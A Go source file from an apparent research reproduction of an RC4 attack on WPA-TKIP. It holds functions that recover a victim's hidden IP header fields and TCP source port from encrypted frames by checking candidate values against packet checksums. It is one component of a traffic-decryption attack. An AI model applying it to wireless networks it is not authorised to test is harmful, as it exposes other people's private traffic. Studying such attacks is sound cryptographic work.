package tkip

import (
	"errors"

	"rc4break/internal/checksum"
	"rc4break/internal/online"
	"rc4break/internal/packet"
)

// This file implements the second half of §5.3: before the trailer can be
// attacked, the attacker must know every byte of the IP and TCP headers.
// Three fields are not directly predictable — the victim's internal IP,
// its TCP source port, and the IP TTL — but "both the IP and TCP header
// contain checksums. Therefore, we can apply exactly the same technique
// (i.e., candidate generation and pruning) to derive the values of these
// fields with high success rates. This can be done independently of each
// other, and independently of decrypting the MIC and ICV."

// IPFieldPositions returns the 1-indexed keystream positions of the
// unknown IPv4 header fields in the Figure-2 frame layout: the TTL byte
// and the last two source-IP bytes (the internal /16 host part).
func IPFieldPositions() []int {
	base := packet.LLCSNAPSize // IP header starts after LLC/SNAP
	return []int{
		base + 8 + 1,  // TTL (IP offset 8)
		base + 14 + 1, // SrcIP[2]
		base + 15 + 1, // SrcIP[3]
	}
}

// TCPPortPositions returns the 1-indexed keystream positions of the TCP
// source port bytes.
func TCPPortPositions() []int {
	base := packet.LLCSNAPSize + packet.IPv4Size
	return []int{base + 0 + 1, base + 1 + 1}
}

// RecoverIPFields runs the §5.3 checksum-pruned candidate search for the
// unknown IP header fields. knownHeader is the 20-byte IPv4 header with
// the attacker's best-known values everywhere and arbitrary bytes in the
// unknown fields (TTL, SrcIP[2], SrcIP[3]); the attack must have been
// created over exactly IPFieldPositions(). It returns the recovered field
// values (ttl, ip2, ip3), the candidate position at which the checksum
// first verified, and an error when maxDepth candidates (0 means
// online.DefaultMaxCandidates) are exhausted.
func (a *Attack) RecoverIPFields(knownHeader [packet.IPv4Size]byte, maxDepth int) (ttl, ip2, ip3 byte, depth int, err error) {
	if len(a.Positions) != 3 {
		return 0, 0, 0, 0, errors.New("tkip: attack must cover exactly the 3 unknown IP field positions")
	}
	hdr := knownHeader
	fields, depth, err := a.searchChecksum(func(fields []byte) bool {
		hdr[8], hdr[14], hdr[15] = fields[0], fields[1], fields[2]
		return checksum.InternetValid(hdr[:])
	}, maxDepth)
	if err != nil {
		return 0, 0, 0, 0, err
	}
	return fields[0], fields[1], fields[2], depth, nil
}

// RecoverTCPPort runs the analogous search for the TCP source port, pruned
// by the TCP checksum over the pseudo-header. knownSegment is the TCP
// header plus payload with arbitrary bytes in the port field; srcIP/dstIP
// form the pseudo-header (srcIP must already be recovered or known).
func (a *Attack) RecoverTCPPort(knownSegment []byte, srcIP, dstIP [4]byte, maxDepth int) (port uint16, depth int, err error) {
	if len(a.Positions) != 2 {
		return 0, 0, errors.New("tkip: attack must cover exactly the 2 port byte positions")
	}
	if len(knownSegment) < packet.TCPSize {
		return 0, 0, errors.New("tkip: segment shorter than a TCP header")
	}
	seg := append([]byte(nil), knownSegment...)
	fields, depth, err := a.searchChecksum(func(fields []byte) bool {
		seg[0], seg[1] = fields[0], fields[1]
		return packet.VerifyTCPChecksum(seg, srcIP, dstIP)
	}, maxDepth)
	if err != nil {
		return 0, 0, err
	}
	return uint16(fields[0])<<8 | uint16(fields[1]), depth, nil
}

// searchChecksum walks the attacked positions' candidates against a
// checksum predicate and returns the first that verifies with its 1-based
// list position.
func (a *Attack) searchChecksum(valid func([]byte) bool, maxDepth int) ([]byte, int, error) {
	res, err := online.Search(a, online.OracleFunc(valid), maxDepth)
	if err != nil {
		return nil, 0, err
	}
	if res.Plaintext == nil {
		return nil, 0, errors.New("tkip: no candidate passed the checksum")
	}
	return res.Plaintext, res.Rank, nil
}
